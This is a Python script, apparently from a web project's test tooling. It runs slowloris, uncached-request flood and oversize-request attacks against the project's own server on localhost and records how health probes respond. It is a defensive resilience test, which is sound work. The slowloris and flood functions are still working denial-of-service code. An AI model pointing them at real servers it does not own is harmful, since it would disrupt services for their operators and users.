"""The attacks of issue 10 against a running server, measured: `scripts/attack --help`.

While an attack runs, a probe asks for `/healthz` and a page already in the page cache every
`--probe-interval` seconds, each time on a new connection from the probe's own address, and
records how long each answer took. The attacks:

- slowloris: `--connections` sockets each send the start of a request and then one more
  header line every `--drip` seconds, never finishing it (what held every gunicorn worker
  when gunicorn faced clients itself); reports how long the server let them hang on;
- heavy: `--clients` concurrent clients ask for expensive pages that are not in the page
  cache (a random query parameter, a random cookie), one after another, as fast as the
  server answers them;
- oversize: an over-long address, over-large headers and an over-large body, once each;
  reports the status and the security headers of the answers.

The attackers connect from `--attacker-address` (127.0.0.2 by default: on Linux all of
127.0.0.0/8 is this machine), the probe from 127.0.0.1, so that the server sees them as
two clients, as it would on the internet. Prints one JSON object; the test
(tests/test_attacks.py) runs it with small numbers, `make attack` with larger ones.
Needs only Python's standard library.
"""

import argparse
import http.client
import json
import random
import select
import socket
import sys
import threading
import time
from urllib.parse import urlsplit

HEAVY_PATHS = (
    "/markets/?format=json&n={n}",
    "/search/?q=synthetic&format=json&n={n}",
    "/timeline/?n={n}",
)
SECURITY_HEADERS = (
    "Content-Security-Policy",
    "X-Frame-Options",
    "X-Content-Type-Options",
    "Referrer-Policy",
)


class Target:
    """Where the server listens, and plain requests to it from a chosen source address."""

    def __init__(self, base, attacker_address):
        parts = urlsplit(base)
        self.host, self.port = parts.hostname, parts.port or 80
        self.attacker_address = attacker_address or None

    def connect(self, source=None, timeout=10):
        source_address = (source, 0) if source else None
        return http.client.HTTPConnection(
            self.host, self.port, timeout=timeout, source_address=source_address
        )

    def get(self, path, headers=None, source=None, timeout=10, method="GET"):
        """(status, headers, body size, seconds) of one request on a new connection; status
        0 when it failed (refused, reset, timed out)."""
        started = time.monotonic()
        connection = self.connect(source, timeout)
        try:
            connection.request(method, path, headers=headers or {})
            response = connection.getresponse()
            body = response.read()
            return response.status, dict(response.getheaders()), len(body), _since(started)
        except OSError:
            return 0, {}, 0, _since(started)
        finally:
            connection.close()


def _since(started):
    return time.monotonic() - started


class Probe(threading.Thread):
    """Asks for each of `paths` every `interval` seconds until stopped; keeps the slowest
    answer per path and every failure (not 200, or no answer within `timeout`)."""

    def __init__(self, target, paths, interval, timeout=5):
        super().__init__(daemon=True)
        self.target, self.paths, self.interval, self.timeout = target, paths, interval, timeout
        self.stopped = threading.Event()
        self.results = {path: {"count": 0, "max_seconds": 0.0, "failures": []} for path in paths}

    def run(self):
        while not self.stopped.is_set():
            for path in self.paths:
                status, _, _, seconds = self.target.get(path, timeout=self.timeout)
                result = self.results[path]
                result["count"] += 1
                result["max_seconds"] = round(max(result["max_seconds"], seconds), 3)
                if status != 200:
                    result["failures"].append({"status": status, "seconds": round(seconds, 3)})
            self.stopped.wait(self.interval)

    def stop(self):
        self.stopped.set()
        self.join(timeout=self.timeout + 1)
        return self.results


def slowloris(target, seconds, connections, drip):
    """Open `connections` sockets that each send an unfinished request, a header line every
    `drip` seconds, for `seconds`; how many the server closed, and after how long."""
    opened_at, sockets, closed_after = {}, [], []
    for number in range(connections):
        sock = socket.socket()
        if target.attacker_address:
            sock.bind((target.attacker_address, 0))
        try:
            sock.connect((target.host, target.port))
            sock.sendall(f"GET /?slow={number} HTTP/1.1\r\nHost: {target.host}\r\n".encode())
        except OSError:
            sock.close()
            continue
        opened_at[sock] = time.monotonic()
        sockets.append(sock)
    opened = len(sockets)
    deadline = time.monotonic() + seconds
    while sockets and time.monotonic() < deadline:
        for sock in list(sockets):
            if _server_closed(sock):
                closed_after.append(round(_since(opened_at[sock]), 1))
                sockets.remove(sock)
                sock.close()
        time.sleep(min(drip, max(0, deadline - time.monotonic())))
    for sock in sockets:
        sock.close()
    return {
        "connections": connections,
        "opened": opened,
        "closed_by_server": len(closed_after),
        "closed_after_seconds_max": max(closed_after, default=None),
        "still_open_at_end": len(sockets),
    }


def _server_closed(sock):
    """Send one more header line; True if the server has answered or hung up instead."""
    readable, _, _ = select.select([sock], [], [], 0)
    if readable:
        return True  # a 408, or the end of the connection
    try:
        sock.sendall(f"X-Slow-{random.randrange(10**6)}: 1\r\n".encode())
    except OSError:
        return True
    return False


def heavy(target, seconds, clients):
    """`clients` threads asking for uncached expensive pages for `seconds`; the statuses
    and the slowest answer."""
    deadline = time.monotonic() + seconds
    lock = threading.Lock()
    statuses, slowest = {}, [0.0]

    def client():
        while time.monotonic() < deadline:
            path = random.choice(HEAVY_PATHS).format(n=random.randrange(10**9))
            cookie = {"Cookie": f"attack={random.randrange(10**9)}"}
            status, _, _, took = target.get(path, cookie, target.attacker_address, timeout=60)
            with lock:
                statuses[status] = statuses.get(status, 0) + 1
                slowest[0] = max(slowest[0], took)
            if status in (0, 429, 503):
                time.sleep(0.05)  # refused: ask again at once, as an attacker would

    threads = [threading.Thread(target=client, daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=max(0, deadline - time.monotonic()) + 60)
    return {
        "clients": clients,
        "requests": sum(statuses.values()),
        "statuses": {str(status): count for status, count in sorted(statuses.items())},
        "max_seconds": round(slowest[0], 3),
    }


def oversize(target):
    """An over-long address and over-large headers: the status and the security headers of
    each answer."""
    cases = {
        "long_url": ("GET", "/" + "a" * 20_000, {}),
        "large_header": ("GET", "/", {"X-Large": "b" * 20_000}),
        "many_headers": ("GET", "/", {f"X-Many-{i}": "c" * 7_000 for i in range(8)}),
        # Announced, not sent: the server refuses it on the headers alone.
        "large_body": ("POST", "/admin/login/", {"Content-Length": str(50 * 1024 * 1024)}),
    }
    results = {}
    for name, (method, path, headers) in cases.items():
        status, response_headers, size, _ = target.get(
            path, headers, target.attacker_address, method=method
        )
        results[name] = {
            "status": status,
            "body_bytes": size,
            "headers": {name: response_headers.get(name) for name in ("Server", *SECURITY_HEADERS)},
        }
    return results


def under_probe(target, probe_paths, interval, attack, *args):
    """Run `attack(target, *args)` while probing; both results."""
    probe = Probe(target, probe_paths, interval)
    probe.start()
    try:
        result = attack(target, *args)
    finally:
        probes = probe.stop()
    return {"attack": result, "probes": probes}


def parse_args(argv):
    parser = argparse.ArgumentParser(
        prog="scripts/attack", description=__doc__.split("\n\n")[0].split(": ")[0]
    )
    parser.add_argument("base", help="the server, e.g. http://127.0.0.1:8000")
    parser.add_argument(
        "attacks", nargs="*", default=["slowloris", "heavy", "oversize"], help="which ones"
    )
    parser.add_argument("--seconds", type=float, default=10, help="length of each attack")
    parser.add_argument("--connections", type=int, default=50, help="slowloris sockets")
    parser.add_argument("--drip", type=float, default=1.5, help="slowloris: seconds a line")
    parser.add_argument("--clients", type=int, default=6, help="heavy: concurrent clients")
    parser.add_argument("--cached-path", default="/", help="a page the probe asks for")
    parser.add_argument("--probe-interval", type=float, default=0.2)
    parser.add_argument("--attacker-address", default="127.0.0.2")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    target = Target(args.base, args.attacker_address)
    probe_paths = ["/healthz", args.cached_path]
    # Once first, so that it is in the page cache before the attack.
    target.get(args.cached_path)
    report = {}
    for name in args.attacks:
        if name == "slowloris":
            report[name] = under_probe(
                target, probe_paths, args.probe_interval, slowloris,
                args.seconds, args.connections, args.drip,
            )  # fmt: skip
        elif name == "heavy":
            report[name] = under_probe(
                target, probe_paths, args.probe_interval, heavy, args.seconds, args.clients
            )
        elif name == "oversize":
            report[name] = oversize(target)
        else:
            sys.exit(f"unknown attack {name!r}: slowloris, heavy or oversize")
    json.dump(report, sys.stdout, indent=2)
    print()


if __name__ == "__main__":
    main()
